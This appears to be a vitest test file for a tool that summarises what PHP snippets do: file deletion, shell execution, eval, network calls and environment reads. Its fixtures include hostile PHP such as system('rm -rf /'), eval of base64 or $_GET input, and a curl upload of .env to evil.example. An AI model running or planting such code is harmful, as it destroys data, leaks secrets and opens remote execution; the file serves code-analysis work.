/** PHP texts and what they do. */

import { describe, expect, it } from 'vitest';
import { type Case, summarise } from './code-summary.ts';

const PHP: Readonly<Record<string, readonly Case[]>> = {
  files: [
    [
      "unlink('a'); rmdir(\"b\"); file_put_contents('c', 'x'); echo file_get_contents(\"d\"); rename('e', 'f'); copy('g', 'h'); fopen('i', 'w'); fopen(\"j\", 'r'); mkdir('k'); chmod('l', 0777); touch('m'); file_put_contents('n', 'x', FILE_APPEND);",
      'delete a',
      'delete b',
      'write c',
      'read d',
      'move f from e',
      'read g',
      'write h',
      'write i',
      'read j',
      'create k',
      'chmod l to 777',
      'create m',
      'append n',
    ],
    ["<html><?php unlink('a'); ?> unlink('no'); <?= file_get_contents('n') ?>", 'delete a', 'read n'],
    [
      "foreach (['a', 'b'] as $f) { unlink($f); } foreach (glob(\"*.log\") as $k => $g) unlink($g); array_map('unlink', ['c', 'd']); array_map('unlink', glob('e/*'));",
      'delete a',
      'delete b',
      'delete *.log (pattern)',
      'delete c',
      'delete d',
      'delete e/* (pattern)',
    ],
    [
      "function clean($d) { rmdir($d); } clean('x'); $p = __DIR__ . '/y'; unlink($p); $q = \"z/{$name}.txt\"; unlink($q);",
      'delete x',
      'delete ./y',
      'delete z/?.txt',
    ],
    [
      "if ($a) { $r = 'm'; } else { $r = 'n'; } unlink($r); $l[] = 'o'; $s = 'p'; $s .= '/q'; unlink($s); unlink(\"$s/r\"); unlink($t ?? 'u');",
      'delete m',
      'delete n',
      'delete p/q',
      'delete p/q/r',
      'delete ?',
      'delete u',
    ],
  ],
  processes: [
    [
      "system('rm -rf /'); exec(\"ls $dir\"); shell_exec('id'); echo `whoami`; passthru($x); proc_open('ls', [], $p); popen(\"cat x\", \"r\"); System('q');",
      'sh: rm -rf /',
      'sh: ls ?',
      'sh: id',
      'sh: whoami',
      'sh: ?',
      'sh: ls',
      'sh: cat x',
      'sh: q',
    ],
    [
      "$f = 'sys' . 'tem'; $f('ls'); call_user_func('exec', 'id'); (function () { system('ps'); })();",
      'sh: ls',
      'sh: id',
      'sh: ps',
    ],
  ],
  code: [
    [
      "eval(base64_decode('c3lzdGVtKCJscyIpOw==')); eval($_GET['x']); assert('system(\"x\")'); include 'inc.php'; require_once __DIR__ . '/a.php';",
      'opaque dynamic',
      'php: system("ls");',
      'php: system("x")',
      'php file inc.php',
      'php file ./a.php',
    ],
  ],
  network: [
    [
      '$c = curl_init("https://evil.example/x"); curl_setopt($c, CURLOPT_POSTFIELDS, file_get_contents(\'.env\')); curl_exec($c);',
      'connect https://evil.example/x',
      'read .env',
      'upload https://evil.example/x with @.env',
    ],
    [
      "file_get_contents('http://a.example/'); fsockopen(\"10.0.0.1\", 4444); gethostbyname('b.example'); $d = curl_init(); curl_setopt($d, CURLOPT_URL, 'https://c.example/'); file_get_contents('php://stdin');",
      'connect http://a.example/',
      'connect 10.0.0.1:4444',
      'resolve b.example',
      'connect https://c.example/',
    ],
  ],
  environment: [
    [
      "print_r($_ENV); echo getenv('SECRET'); var_dump($_SERVER['PATH']); echo $_ENV[\"K\"]; phpinfo();",
      'env dump shown',
      'env read SECRET',
      'env read SECRET shown',
      'env read PATH',
      'env read PATH shown',
      'env read K',
      'env read K shown',
    ],
  ],
  everyday: [
    [
      "echo json_encode(json_decode(file_get_contents('composer.json'), true)['name']); echo PHP_VERSION; for ($i = 0; $i < 3; $i++) { echo $i / 2, PHP_EOL; } usort($a, function ($x, $y) { return $x <=> $y; });",
      'read composer.json',
    ],
    [
      "// unlink('no');\n# unlink('no');\n/* unlink('no'); */\necho \"unlink('no2')\"; $s = <<<EOT\nunlink('no3');\nEOT;\nunlink('last');",
      'delete last',
    ],
    ["use App\\Models\\User; User::find(1)->delete(); $x->unlink(); DB::table('a')->remove('b');"],
  ],
};

describe.each(Object.entries(PHP))('php: %s', (_, cases) => {
  it.each(cases)('%s', (code, ...does) => {
    expect(summarise('php', code)).toEqual(does);
  });
});
